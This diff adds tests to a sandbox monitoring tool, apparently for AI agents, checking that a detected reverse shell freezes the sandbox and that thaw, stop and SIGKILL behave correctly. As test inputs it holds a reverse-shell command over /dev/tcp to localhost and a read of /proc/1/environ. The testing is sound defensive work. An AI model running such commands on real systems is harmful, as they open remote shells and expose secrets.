@@ -7,6 +7,7 @@ import json
 import os
 import re
 import shutil
+import subprocess
 import sys
 import tempfile
 import time
@@ -376,6 +377,179 @@ def _wait_frozen(caller, pid, timeout=60):
                 return e["session"]
         time.sleep(0.2)
     return None
+
+
+def _pid_ns(pid):
+    try:
+        return os.stat(f"/proc/{pid}/ns/pid").st_ino
+    except OSError:
+        return None
+
+
+def _sandbox_processes(supervisor):
+    """Host pids of every process in the pid namespace of the supervisor's
+    sandbox (its child in another pid namespace is the sandbox's pid 1)."""
+    own, init = _pid_ns(supervisor), None
+    for d in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            status = Path(f"/proc/{d}/status").read_text()
+        except OSError:
+            continue
+        ppid = re.search(r"^PPid:\s*(\d+)", status, re.M)
+        if ppid and int(ppid.group(1)) == supervisor and _pid_ns(d) not in (None, own):
+            init = d
+    if init is None:
+        return []
+    ns = _pid_ns(init)
+    return [int(d) for d in filter(str.isdigit, os.listdir("/proc")) if _pid_ns(d) == ns]
+
+
+def _proc_state(pid):
+    return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
+
+
+def _freezer_cgroup(pid):
+    """The host directory of the reins freezer cgroup `pid` is in and its
+    kind, read from /proc/PID/cgroup; (None, None) when it is in none."""
+    for line in Path(f"/proc/{pid}/cgroup").read_text().splitlines():
+        _, controllers, path = line.split(":", 2)
+        if "reins-" not in path:
+            continue
+        if "freezer" in controllers.split(","):
+            return Path("/sys/fs/cgroup/freezer" + path), "cgroup-v1"
+        if controllers == "":
+            unified = os.path.exists("/sys/fs/cgroup/cgroup.controllers")
+            root = "/sys/fs/cgroup" if unified else "/sys/fs/cgroup/unified"
+            if os.path.exists(root + path + "/cgroup.freeze"):
+                return Path(root + path), "cgroup-v2"
+    return None, None
+
+
+def _cgroup_frozen(cgroup, kind):
+    if kind == "cgroup-v1":
+        return (cgroup / "freezer.state").read_text().strip() == "FROZEN"
+    return "frozen 1" in (cgroup / "cgroup.events").read_text().split("\n")
+
+
+def _ps_entry(caller, session):
+    for line in caller.run(["ps", "--json"]).stdout.splitlines():
+        e = json.loads(line)
+        if e.get("session") == session:
+            return e
+    return {}
+
+
+def test_t3_freezes_through_the_cgroup_and_stop_ends_it(caller, web):
+    """T3 holds the sandbox in its freezer cgroup as root (without one, as
+    nobody, every process gets SIGSTOP): a counter the agent keeps makes no
+    progress until `reins thaw`; frozen again, `reins stop` ends it, and the
+    freezer cgroup is removed."""
+    ws = caller.workspace()
+    # the counter lives outside the workspace: T2 made that read-only
+    shared = caller.mkdtemp(prefix="reins-risk-count-")
+    counter, go = shared / "counter", shared / "go"
+    pol = write_policy(caller, ws, web,
+                       extra="rules: {severity: {proc-snooping: critical}}\n")
+    evdir = caller.mkdtemp(prefix="reins-risk-ev-")
+    events_path = evdir / "events.jsonl"
+    # a script file: only its `bash -c` step looks like a reverse shell
+    caller.write(ws / "agent.sh",
+                 f"(i=0; while :; do i=$((i+1)); echo $i > {counter}; sleep 0.05; done) &\n"
+                 f"while [ ! -s {counter} ]; do sleep 0.05; done\n"
+                 "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' 2>/dev/null\n"
+                 f"while [ ! -e {go} ]; do sleep 0.05; done\n"
+                 "cat /proc/1/environ >/dev/null 2>&1\n"
+                 "wait\n")
+    p = caller.popen(["run", "-p", pol, "--events", events_path, "--rw", shared, "-w", ws,
+                      "--", "bash", "agent.sh"], cwd=ws, text=True)
+    try:
+        session = _wait_frozen(caller, p.pid)
+        assert session, "a reverse shell did not freeze the sandbox"
+        procs = _sandbox_processes(p.pid)
+        assert len(procs) >= 3, procs  # pid 1, the agent's shell, the counter
+        ns = _pid_ns(procs[0])
+        cgroup, kind = _freezer_cgroup(procs[0])
+        if caller.uid == 0:
+            assert kind in ("cgroup-v1", "cgroup-v2"), "root's sandbox has no freezer cgroup"
+        if caller.name == "nobody":
+            assert kind is None, cgroup  # no delegated cgroup v2 subtree for nobody
+        freezer = kind or "sigstop"
+        assert _ps_entry(caller, session).get("freezer") == freezer
+        if kind:
+            assert _cgroup_frozen(cgroup, kind), cgroup
+            assert all(_freezer_cgroup(pid)[0] == cgroup for pid in procs)
+        # a child that exited just before the freeze stays a zombie (Z)
+        states = {_proc_state(pid) for pid in procs} - {"Z"}
+        if kind == "cgroup-v1":
+            assert states == {"D"}, states  # frozen, not stopped
+        if kind is None:
+            assert states == {"T"}, states
+        # frozen: no progress (a stalled machine could only hide a failure)
+        before = counter.read_text()
+        time.sleep(1)
+        assert counter.read_text() == before, "the counter went on while frozen"
+        r = caller.run(["thaw", session[:12]])
+        assert r.returncode == 0, r.stderr
+        deadline = time.time() + 30
+        while counter.read_text() == before and time.time() < deadline:
+            time.sleep(0.05)
+        assert counter.read_text() != before, "the counter did not go on after reins thaw"
+        if kind:
+            assert not _cgroup_frozen(cgroup, kind)
+        # frozen again (a second critical finding), then stopped
+        caller.write(go, "")
+        deadline = time.time() + 60
+        while time.time() < deadline and not _ps_entry(caller, session).get("frozen"):
+            time.sleep(0.1)
+        assert _ps_entry(caller, session).get("frozen"), "the second finding did not freeze"
+        assert caller.run(["stop", session]).returncode == 0
+        p.communicate(timeout=60)
+    finally:
+        if p.poll() is None:
+            p.kill()
+        try:  # a sandbox left frozen would hold the pipes open for ever
+            p.communicate(timeout=10)
+        except subprocess.TimeoutExpired:
+            pass
+    gone = [pid for pid in procs if _pid_ns(pid) == ns]
+    assert not gone, gone
+    if cgroup:
+        assert not cgroup.exists(), f"{cgroup} left behind"
+    events = [json.loads(line) for line in events_path.read_text().splitlines()]
+    plays = [e for e in events if e["type"] == "risk.playbook" and e["action"] in ("freeze",
+                                                                               "thaw")]
+    assert [(e["action"], e["ok"], e["freezer"]) for e in plays] == [
+        ("freeze", True, freezer), ("thaw", True, freezer), ("freeze", True, freezer)], plays
+    assert plays[0]["processes"] >= 3, plays[0]
+
+
+def test_sigkill_of_a_frozen_session_kills_the_sandbox(caller, web):
+    """`reins run` killed with SIGKILL while the sandbox is frozen: every
+    sandbox process dies with it (a task frozen in a v1 freezer cgroup acts
+    on SIGKILL only once thawed: the freeze's watchdog kills and thaws)."""
+    ws = caller.workspace()
+    pol = write_policy(caller, ws, web, extra="")
+    p = caller.popen(["run", "-p", pol, "-w", ws, "--", "bash", "-c",
+                      "bash -i >& /dev/tcp/127.0.0.1/9 0>&1; sleep 30"], cwd=ws, text=True)
+    procs, ns = [], None
+    try:
+        assert _wait_frozen(caller, p.pid), "a reverse shell did not freeze the sandbox"
+        procs = _sandbox_processes(p.pid)
+        ns = _pid_ns(procs[0])
+        p.kill()
+        deadline = time.time() + 30
+        while time.time() < deadline and any(_pid_ns(pid) == ns for pid in procs):
+            time.sleep(0.1)
+    finally:
+        if p.poll() is None:
+            p.kill()
+        try:  # the sandbox holds the pipes while it lives
+            p.communicate(timeout=10)
+        except subprocess.TimeoutExpired:
+            pass
+    assert procs and ns
+    left = [(pid, _proc_state(pid)) for pid in procs if _pid_ns(pid) == ns]
+    assert not left, f"sandbox processes outlived reins run: {left}"
 
 
 def test_canaries_planted_read_and_sent(caller, web):
